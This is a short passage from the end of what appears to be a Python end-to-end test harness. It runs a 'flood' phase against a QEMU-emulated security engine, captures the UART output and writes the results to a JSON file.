        with e2e_topology.Topology(elf, www, FLOOD_BOOTARGS, log_dir=work) as topo:
            results['flood_bootargs'] = FLOOD_BOOTARGS
            phase_flood(topo, work, www)
            results['uart_tail'] = [l for l in topo.qemu.lines[-5:] if l]
    out = a.results or os.path.join(os.getcwd(), 'e2e_results.json')
    return e2e_common.run(results, check, 'secengine-e2e-', body, out, a.keep)


if __name__ == '__main__':
    sys.exit(main())
